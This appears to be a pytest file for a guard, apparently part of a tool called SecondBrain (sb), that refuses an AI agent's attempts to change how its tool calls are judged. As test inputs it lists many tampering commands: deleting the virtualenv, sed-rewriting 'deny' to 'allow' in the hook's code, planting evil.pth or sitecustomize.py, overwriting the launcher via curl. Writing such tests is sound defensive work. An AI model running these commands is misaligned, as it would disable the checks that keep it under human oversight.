"""Guarded places: every attempt of an agent to change how calls are judged is refused."""

from __future__ import annotations

import os
import sys
import tarfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sb.config import load_config
from sb.config.home import Home
from sb.hosts.hooks.calls.context import JudgingContext
from sb.hosts.hooks.event import GovernedCall, NativeCall
from sb.hosts.hooks.judged_call import JudgedCall
from sb.kernel.contracts import ToolError
from sb.runtime.parts import shipped_registry
from sb.shell import ShellVerdict, classify
from sb.shell.places.guarded import Guarded, Place
from sb.tools.hosted.guarding import (
    Kind,
    guarded,
    in_project,
    installation_places,
    interpreter,
    interpreter_places,
    launcher,
)
from tests.hosts.install.environments import VERSION, Installed
from tests.rows import rows

DECIDES = "decides how calls are judged"
PYTHON = interpreter()
STDLIB = os.path.dirname(os.__file__)

# Through the process that a host starts: each way to change a file, each kind of file once.
EDITS = [
    "{site}/evil.pth",
    "{site}/sb/hosts/hooks/main.py",
    "{venv}/pyvenv.cfg",
    "{user}/.local/bin/sb",
    f"{STDLIB}/json/__init__.py",
]
LINES = [
    "mv {venv} /tmp/x",
    "chmod -x {venv}/bin/python",
    "{venv}/bin/pip uninstall -y orjson",
    "echo x > {user}/.local/bin/sb",
]


@pytest.mark.parametrize("path", EDITS)
def test_the_hook_refuses_an_edit(isolated: Installed, path: str) -> None:
    named = path.format(**vars(isolated))
    assert DECIDES in isolated.asked("Write", file_path=named, content="x")


@pytest.mark.parametrize("line", LINES)
def test_the_hook_refuses_a_command_line(isolated: Installed, line: str) -> None:
    assert DECIDES in isolated.asked("Bash", command=line.format(**vars(isolated)))


def test_the_hook_refuses_an_argument_of_an_mcp_tool(isolated: Installed) -> None:
    path = str(isolated.site / "sitecustomize.py")
    assert DECIDES in isolated.asked("mcp__filesystem__write_file", path=path, content="x")
    assert DECIDES in isolated.asked(
        "mcp__filesystem__move_file", source=str(isolated.venv.parent), destination="/tmp/x"
    )


@pytest.fixture(scope="module")
def context(isolated: Installed) -> JudgingContext:
    """An agent in a project, judged as the hook of that installation judges it."""
    home = Home(isolated.user / ".sb")
    return JudgingContext(
        isolated.project, isolated.user, [home.folder], guarded=guarded(home, isolated.env())
    )


def line(command: str, context: JudgingContext, isolated: Installed, **env: str) -> ShellVerdict:
    return classify(
        command.format(
            python=PYTHON, programs=os.path.dirname(PYTHON), stdlib=STDLIB, version=VERSION, **vars(isolated)
        ),
        cwd=context.cwd,
        home=context.home,
        protected=context.protected,
        guarded=context.guarded,
        env={**isolated.env(), **env},
    )


@rows("command", [
        "rm {site}/orjson/__init__.py",
        "rm -rf {venv}",
        "rm -rf {user}/tools",
        "rm -r ~/tools/*",
        "cd ~/tools && rm -rf sb",
        "mv ~/tools ~/t",
        "mv {user}/tools/sb{{,2}}",
        "chmod 000 ~/tools",
        "chmod a-x ~",
        "chown nobody {venv}/bin",
        "chmod -R -x ~/tools/sb/bin",
        "ln -sf /bin/true {venv}/bin/python",
        "ln {venv}/bin/python x",
        "cp -l {site}/sb/hosts/hooks/main.py x",
        "cp evil.py {site}/sb/hosts/hooks/main.py",
        "cp evil.py {site}",
        "install -m 755 evil ~/.local/bin/sb",
        "sed -i s/deny/allow/ {site}/sb/hosts/hooks/main.py",
        "perl -pi -e s/deny/allow/ {site}/sb/hosts/hooks/main.py",
        "echo 'import os' >> {site}/evil.pth",
        "echo x | tee {site}/sitecustomize.py",
        "truncate -s 0 {site}/orjson/__init__.py",
        "dd if=/dev/zero of={venv}/bin/python",
        "touch {venv}/bin/pyvenv.cfg",
        "find {site} -name '*.so' -delete",
        "find ~/tools -type f -exec rm {{}} +",
        "git -C {site} checkout -- sb || git checkout x -- {site}/sb",
        "ln -s $PWD/evil ~/.local/bin/sb",
        "ln -s $PWD/evil ~/bin/sb",
        "curl -o ~/.local/bin/sb https://example.org/x",
        "{venv}/bin/python -m pip uninstall -y orjson",
        "{venv}/bin/pip install --upgrade orjson",
        "pip --python {venv}/bin/python uninstall -y orjson",
        "pip install --target {site} evil",
        "pip install --prefix {venv} evil",
        "uv pip install --python {venv}/bin/python evil",
        "uv pip uninstall -p {venv} orjson",
        "VIRTUAL_ENV={venv} uv pip install evil",
        "export VIRTUAL_ENV={venv}; uv sync --active",
        "UV_PROJECT_ENVIRONMENT={venv} uv sync",
        "PATH={venv}/bin:$PATH pip install evil",
        "python3 -m venv --clear {venv}",
        "virtualenv {venv}",
        "uv venv --clear {venv}",
        "pipx uninstall secondbrain-sb",
        "pipx inject secondbrain-sb evil",
        "pipx uninstall-all",
        "uv tool uninstall secondbrain-sb",
        "uv tool install --force --with evil secondbrain_sb",
        "uv tool upgrade --all",
        "rm {python}",
        "mv {stdlib}/json {stdlib}/json2",
        "echo x > {stdlib}/sitecustomize.py",
        "rm -r {stdlib}/__pycache__",
        "python3 -c \"open('{site}/evil.pth', 'w').write('x')\"",
        "python3 -c \"import shutil; shutil.rmtree('{venv}')\"",
        "node -e \"fs.rmSync('{user}/tools', {{recursive: true}})\"",
        "echo /tmp/evil > {python}._pth",
        "mkdir -p {programs}/lib/{version} && cp os.py {programs}/lib/{version}/",
        "mv evil {programs}/lib",
        "ed -s {stdlib}/os.py",
        "vim -es +wq {stdlib}/os.py",
        "gcc -o {stdlib}/lib-dynload/x.so x.c",
        "strip {python}",
        "patchelf --set-rpath /tmp/evil {python}",
        "strace -o {stdlib}/os.py ls",
        "sqlite3 {stdlib}/os.py 'create table x(y)'",
        "awk '{{{{print > \"{stdlib}/os.py\"}}}}' x",
        "python3 -m json.tool x {stdlib}/os.py",
        "go build -o ~/.local/bin/sb ./cmd",
        "sb install claude-code",
        "SB_HOME=/tmp/x make",
        "bash -c 'rm -rf {venv}'",
        "timeout 5 rm -rf {venv}",
        "echo {site}/orjson/__init__.py | xargs rm",
        "mkdir -p ~/.local/bin && cp sb ~/.local/bin",
        "cp -t ~/.local/bin/ x/sb",
        "mv sb ~/bin/",
        "ln -s ~/tools t",
        "ln -s {venv}/lib t && rm -r t/x",
        "cd ~/tools && python3 -c \"import shutil; shutil.rmtree('sb')\"",
        "python3 -c \"import os; os.symlink('{user}/tools', 't')\"",
        "python3 <<X\nimport os\nos.chmod('{venv}', 0)\nX",
    ])  # fmt: skip
def test_a_command_line_that_changes_it_is_refused(
    command: str, context: JudgingContext, isolated: Installed
) -> None:
    assert line(command, context, isolated).refused


@rows(
    "command",
    [
        "{python} -m pytest -q",
        "timeout 60 {python} x.py",
        "cat {site}/sb/hosts/hooks/main.py",
        "grep -rn deny {site}/sb",
        "cp {site}/sb/hosts/hooks/main.py mine.py",
        "cp {python} x",
        "ls -la {venv}/bin {stdlib}",
        "diff {stdlib}/json/__init__.py mine.py",
        "{python} -m venv .venv",
        "virtualenv -p {python} .venv",
        "uv venv --python {python} .venv",
        ".venv/bin/pip install requests",
        ".venv/bin/pip uninstall -y orjson",
        "uv sync",
        "uv add httpx",
        "uv pip install -e .",
        "poetry install",
        "pipx list",
        "pipx install black",
        "uv tool run ruff check",
        "rm -f ~/.local/bin/other",
        "ln -s {python} python3",
        "mv a b",
        "chmod +x run.sh",
        "python3 -c \"import sys; sys.path.insert(0, '{stdlib}/site-packages'); print(1)\"",
        "echo x > ~/.local/share/notes.txt",
        "sb doctor",
        "{venv}/bin/sb kill all --reason x",
        "rm {stdlib}/site-packages/x.py",
        "python3 -c \"import sys; sys.stdout.write('{user}'.replace('/home', ''))\"",
        "python3 -c \"open('x', 'w').write('a/b'.split('/')[0])\"",
        "python3 -c \"print(open('{stdlib}/json/__init__.py').read())\"",
        "cp sb src/",
        "cp -r sb build/",
        "mv sb/a.py sb/b.py",
        "pyenv uninstall 2.7.1",
        "uv python install 3.13",
        "ln -s {site}/orjson/__init__.py x",
    ],
)
def test_everyday_work_is_not_refused(command: str, context: JudgingContext, isolated: Installed) -> None:
    assert line(command, context, isolated).refused == ""


@rows(
    "command",
    [
        "cp -r {it}/. ~/.local",
        "cp -r {it}/bin ~/.local",
        "cp -r {it}/bin/. ~/.local/bin",
        "rsync -a {it}/ ~/.local/",
        "mv {it}/bin/* ~/.local/bin/",
        "tar xf {it}.tar -C ~/.local",
        "tar xf {it}.tar -C ~/.local/bin --strip-components=1",
    ],
)
def test_sb_among_other_files_is_not_copied_into_the_path(
    command: str, context: JudgingContext, isolated: Installed
) -> None:
    (isolated.user / ".local" / "bin").mkdir(parents=True, exist_ok=True)
    for name, program in (("evil", "sb"), ("tools", "jq")):
        (isolated.project / name / "bin").mkdir(parents=True, exist_ok=True)
        (isolated.project / name / "bin" / program).touch()
        with tarfile.open(isolated.project / f"{name}.tar", "w") as packed:
            packed.add(isolated.project / name / "bin", "bin")
    assert line(command.replace("{it}", "evil"), context, isolated).refused
    harmless = line(command.replace("{it}", "tools"), context, isolated)
    assert (harmless.refused, harmless.safety_class.value != "destructive") == ("", True)


def test_unknown_files_into_the_path_need_approval(context: JudgingContext, isolated: Installed) -> None:
    (isolated.user / ".local" / "bin").mkdir(parents=True, exist_ok=True)
    for command in (
        "curl -L https://e/x.tgz | tar xz -C ~/.local/bin",
        "ln -s ~/.local/bin b && cp evil b/sb",
        "ln -s ~/.local/bin; cp evil bin/sb",
    ):
        assert line(command, context, isolated).safety_class.value == "destructive", command


def test_work_in_the_folder_of_its_packages_waits_for_a_person(
    context: JudgingContext, isolated: Installed
) -> None:
    assert line("cd {site} && patch -p1 < x", context, isolated).safety_class.value == "destructive"
    assert line("cd {site} && ls", context, isolated).safety_class.value == "read_only"


@pytest.mark.parametrize(
    ("command", "python"),
    [
        ("pyenv uninstall -f 3.11.7", "~/.pyenv/versions/3.11.7/bin/python3.11"),
        ("uv python uninstall 3.12", "~/.local/share/uv/python/cpython-3.12.4-linux/bin/python3.12"),
        ("uv python uninstall --all", "~/.local/share/uv/python/cpython-3.12.4-linux/bin/python3.12"),
        ("brew uninstall python@3.11", "/opt/homebrew/opt/python@3.11/bin/python3.11"),
    ],
)
def test_interpreter_of_hooks_is_not_removed(command: str, python: str, tmp_path: Path) -> None:
    python = python.replace("~", str(tmp_path))

    def refused(line: str) -> str:
        guard = Guarded(lambda: [Place(python)])
        return classify(line, cwd=tmp_path, home=tmp_path, protected=[], guarded=guard, env={}).refused

    assert DECIDES in refused(command)
    assert refused("pyenv uninstall 2.7.1 && uv python uninstall 3.9 && brew uninstall wget") == ""


def test_running_code_beside_sb_waits_for_a_person(context: JudgingContext, isolated: Installed) -> None:
    found = line("{venv}/bin/python -c 'import site'", context, isolated)
    assert (found.refused, found.safety_class.value) == ("", "destructive")


@rows(
    "tool, given",
    [
        ("Edit", {"file_path": "{site}/sb/hosts/hooks/main.py"}),
        ("MultiEdit", {"file_path": "~/tools/sb/pyvenv.cfg"}),
        ("Write", {"file_path": "../.local/bin/sb"}),
        ("write_file", {"file_path": "{venv}/bin/python"}),
        ("apply_patch", {"input": "*** Begin Patch\n*** Add File: {site}/evil.pth\n+x\n*** End Patch"}),
        ("mcp__fs__write_file", {"path": "file://{site}/evil.pth"}),
        ("mcp__fs__edit", {"edits": [{"at": {"file": "{site}/sb/cli.py"}}]}),
        ("brand_new_tool", {"target": "{stdlib}/json/decoder.py"}),
        ("mcp__fs__delete_folder", {"path": "{user}/tools"}),
    ],
)
def test_every_tool_that_writes_is_refused(
    tool: str, given: dict[str, Any], context: JudgingContext, isolated: Installed
) -> None:
    assert DECIDES in judged(tool, filled(given, {**vars(isolated), "stdlib": STDLIB}), context).refused


@pytest.mark.parametrize(
    ("tool", "given"),
    [
        ("Read", {"file_path": "{site}/sb/hosts/hooks/main.py"}),
        ("Grep", {"pattern": "deny", "path": "{site}"}),
        ("mcp__fs__read_file", {"path": "{site}/sb/cli.py"}),
        ("mcp__ide__getDiagnostics", {"uri": "file://{stdlib}/json/decoder.py"}),
        ("Write", {"file_path": "src/sb"}),
    ],
)
def test_reading_goes_on(
    tool: str, given: dict[str, Any], context: JudgingContext, isolated: Installed
) -> None:
    assert judged(tool, filled(given, {**vars(isolated), "stdlib": STDLIB}), context).refused == ""


def filled(value: Any, names: Mapping[str, Any]) -> Any:
    if isinstance(value, dict):
        return {name: filled(item, names) for name, item in value.items()}
    if isinstance(value, list):
        return [filled(item, names) for item in value]
    return value.format(**names)


def judged(tool: str, given: dict[str, Any], context: JudgingContext) -> GovernedCall:
    return JudgedCall.of(NativeCall(tool, given), context).governed


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], ShellVerdict]:
    """The verdict on a line of somebody who works on `sb`, or has it in their project's environment."""
    folder = tmp_path / "checkout"
    (folder / ".git").mkdir(parents=True)
    (folder / ".venv" / "bin").mkdir(parents=True)
    (folder / ".venv" / "bin" / "sb").touch()
    (folder / "sb").mkdir()
    monkeypatch.setattr(sys, "prefix", str(folder / ".venv"))
    path = f"{folder}/.venv/bin:{folder}:/usr/bin"
    launcher = [Place(f"{folder}/.venv/bin/sb", whole=False)]
    places = [*launcher, *interpreter_places(PYTHON)]
    assert in_project(str(folder / ".venv"))
    return lambda command: classify(
        command,
        cwd=folder,
        home=tmp_path,
        protected=[tmp_path / ".sb"],
        guarded=Guarded(lambda: places),
        env={"PATH": path, "VIRTUAL_ENV": f"{folder}/.venv"},
    )


@rows(
    "command",
    [
        "pip install x",
        "uv sync",
        "uv pip install -e .",
        ".venv/bin/pip uninstall -y orjson",
        "echo x > sb/hosts/hooks/main.py",
        "sed -i s/a/b/ sb/cli.py",
        "rm -f .venv/lib/python3.11/site-packages/x.pth",
        "mv .venv .venv-old",
        "make clean",
        "python -m venv --clear .venv",
    ],
)
def test_in_a_project_the_copy_of_the_project_is_ordinary_code(
    command: str, project: Callable[[str], ShellVerdict]
) -> None:
    assert project(command).refused == ""


def test_in_a_project_the_launcher_and_the_interpreter_are_not(
    project: Callable[[str], ShellVerdict],
) -> None:
    assert DECIDES in project("echo x > .venv/bin/sb").refused
    assert DECIDES in project(f"rm {PYTHON}").refused


def test_a_shared_folder_of_packages_waits_for_a_person(tmp_path: Path) -> None:
    site = tmp_path / "lib" / VERSION / "site-packages"
    (tmp_path / "bin").mkdir()
    for name in ("pip", "python3"):
        (tmp_path / "bin" / name).touch(mode=0o755)
    places = [Place(str(site), asks=True), Place(str(site / "sb"))]

    def verdict(command: str) -> tuple[str, bool]:
        found = classify(
            command,
            cwd=tmp_path,
            home=tmp_path,
            protected=[],
            guarded=Guarded(lambda: places),
            env={"PATH": f"{tmp_path}/bin"},
        )
        return found.safety_class.value, bool(found.refused)

    assert verdict("pip install requests") == ("destructive", False)
    assert verdict(f"{tmp_path}/bin/python3 -m pip uninstall -y orjson") == ("destructive", False)
    assert verdict(f"echo x > {site}/evil.pth") == ("destructive", False)
    assert verdict(f"echo x > {site}/sb/cli.py")[1]
    context = JudgingContext(tmp_path, tmp_path, [], guarded=Guarded(lambda: places))
    edit = judged("Write", {"file_path": f"{site}/evil.pth"}, context)
    assert (edit.tool_id, edit.refused) == ("host.write_config", "")
    assert judged("mcp__fs__write", {"path": f"{site}/evil.pth"}, context).safety_class.value == "destructive"


def test_the_kernels_own_tools_do_not_put_an_sb_where_it_would_be_found(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    programs = tmp_path / "bin"
    programs.mkdir()
    monkeypatch.setenv("PATH", str(programs))
    config = load_config(env={"SB_HOME": str(home), "HOME": str(tmp_path)}, cwd=tmp_path, flags={})
    opened = replace(config, files=replace(config.files, roots=(tmp_path,)))
    write = shipped_registry(opened).get_callable("files.write")
    assert write is not None
    with pytest.raises(ToolError, match="belongs to SecondBrain"):
        write(path="bin/sb", content="x")
    write(path="bin/other", content="x")


def test_each_kind_of_environment_has_its_places() -> None:
    shared = {Path(place.path).name: place.asks for place in installation_places(Kind.SHARED)}
    assert shared["site-packages"]
    assert shared["sb"] is False
    assert [place.path for place in installation_places(Kind.ISOLATED)][-1] == sys.prefix
    assert {Path(place.path).name for place in installation_places(Kind.PROJECT)} == {"sb"}


def test_sb_is_named_by_its_path_where_none_is_on_path(isolated: Installed, tmp_path: Path) -> None:
    home = Home(isolated.user / ".sb")
    assert launcher(home, {"PATH": "/nowhere"}) == str(isolated.sb)
    assert launcher(home, {}) == str(isolated.sb)
    assert launcher(home, {"PATH": f"/nowhere:{isolated.sb.parent}"}) == "sb"
    assert launcher(Home(tmp_path), {"PATH": "/nowhere"}) == "sb"
